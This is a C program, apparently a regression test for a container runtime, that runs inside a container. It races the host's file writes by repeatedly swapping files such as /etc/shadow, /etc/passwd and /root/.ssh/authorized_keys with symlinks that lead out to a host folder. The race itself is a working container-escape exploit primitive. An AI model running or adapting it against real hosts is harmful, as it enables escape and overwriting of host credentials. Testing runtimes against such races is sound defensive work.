/* Runs inside a CT: swaps what the host writes to for links that lead outside, and back, without end.
 * swap OUTSIDE: the folder of the host that the links name, in turn by its absolute path and by one that climbs.
 * How many swaps there were stands in /swaps, anew with each start: a race that was not run must not pass for one won. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { ROUNDS_OF_A_LINK = 64, PATH = 512, TELL = 1000 };

struct place { const char *path, *leads_to; bool folder; };

static const struct place places[] = {
    {"/etc/hostname", "/hostname", false}, {"/etc/hosts", "/hosts", false}, {"/etc/resolv.conf", "/resolv.conf", false},
    {"/etc/shadow", "/shadow", false}, {"/etc/passwd", "/passwd", false}, {"/root/file", "/file", false},
    {"/root/.ssh/authorized_keys", "/.ssh/authorized_keys", false}, {"/root/.ssh", "/.ssh", true},
    {"/root", "", true}, {"/etc", "", true}};

static bool is_link(const char *path) {
    struct stat what;
    return lstat(path, &what) == 0 && S_ISLNK(what.st_mode);
}

/* Puts a link beside the place again, and at the place what a link can be exchanged for. */
static void prepare(const struct place *p, const char *beside, const char *outside, bool climb) {
    char text[PATH];
    snprintf(text, sizeof text, "%s%s%s", climb ? "../../../../../../../.." : "", outside, p->leads_to);
    if (is_link(p->path)) return; /* at the next turn */
    if (is_link(beside) || !p->folder) unlink(beside);
    if (symlink(text, beside) < 0) return;
    int fd = p->folder ? mkdir(p->path, 0755) : open(p->path, O_WRONLY | O_CREAT | O_NOFOLLOW | O_CLOEXEC, 0644);
    if (!p->folder && fd >= 0) close(fd);
}

static void tell(int fd, unsigned long swaps) {
    char text[32];
    int length = snprintf(text, sizeof text, "%lu\n", swaps);
    if (pwrite(fd, text, length, 0) < 0) return; /* the next time */
}

int main(int argc, char *argv[]) {
    unsigned long swaps = 0;
    int told = open("/swaps", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (argc != 2 || told < 0) return 2;
    for (unsigned long round = 0;; round++)
        for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
            char beside[PATH];
            snprintf(beside, sizeof beside, "%s.swap", places[i].path);
            int swapped = renameat2(AT_FDCWD, places[i].path, AT_FDCWD, beside, RENAME_EXCHANGE);
            if (swapped == 0 && ++swaps % TELL == 0) tell(told, swaps);
            if (swapped < 0 || round % ROUNDS_OF_A_LINK < 2) prepare(&places[i], beside, argv[1], round / ROUNDS_OF_A_LINK % 2);
        }
}
